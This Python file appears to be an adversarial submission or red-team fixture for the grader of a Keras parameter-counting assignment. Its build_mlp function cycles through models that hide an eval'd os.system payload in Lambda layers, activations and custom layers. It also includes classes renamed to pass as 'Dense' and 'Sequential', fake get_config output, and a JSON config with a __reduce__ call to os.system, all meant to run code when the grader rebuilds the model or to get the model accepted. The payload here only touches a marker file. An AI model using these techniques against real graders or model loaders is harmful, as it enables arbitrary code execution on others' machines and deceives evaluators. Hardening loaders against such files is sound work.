# mechanism: models with Lambda, own layers, own cells, own models, that describe themselves as any
# success: code of such a layer runs where the model is rebuilt, or the model is accepted
# assignment: 08_parameter_counting

# %%
import itertools
import json

import keras
from keras import layers

plant = "__import__('os').system('touch /tmp/planted-by-mallory-layer')"


@keras.saving.register_keras_serializable("keras")
class Dense(layers.Dense):
    def call(self, inputs):
        eval(plant)
        return super().call(inputs)


class Hides(layers.Layer):
    def get_config(self):
        return {"name": "hides", "units": 3, "activation": "linear"}

    def call(self, inputs):
        eval(plant)
        return inputs


Hides.__name__ = Hides.__qualname__ = "Dense"
Hides.__module__ = "keras.layers"


class Functional(keras.Model):
    def get_config(self):
        return {"layers": [{"class_name": "Lambda", "config": {"function": plant}}]}

    def call(self, inputs):
        return inputs


class Text(keras.Sequential):
    def get_config(self):
        return json.loads('{"layers": {"__reduce__": ["os.system", "true"]}}')


Text.__name__ = "Sequential"
ways = itertools.cycle(
    [
        lambda n: layers.Lambda(lambda x: eval(plant)),
        lambda n: layers.Lambda(eval, output_shape=(3,), arguments={"x": plant}),
        lambda n: Dense(3),
        lambda n: Hides(),
        lambda n: layers.TimeDistributed(layers.Lambda(lambda x: x)),
        lambda n: layers.Dense(3, activation=lambda x: x),
        lambda n: layers.Dense(3, kernel_initializer=lambda *args, **kwargs: 0),
        lambda n: layers.Dense(3, kernel_regularizer=lambda x: 0.0),
        lambda n: layers.Dense(3, kernel_constraint=lambda x: x),
        lambda n: layers.Activation(keras.activations.get("relu"), dtype="float16"),
        lambda n: layers.Wrapper(layers.Dense(3)),
        lambda n: keras.Sequential([keras.Input((n,)), layers.Lambda(lambda x: x)]),
    ]
)
models = itertools.cycle([Functional, Text, None, None, None])


def build_mlp(inputs, units, activations):
    kind = next(models)
    if kind is not None:
        return kind()
    return keras.Sequential([keras.Input((inputs,)), next(ways)(inputs)])
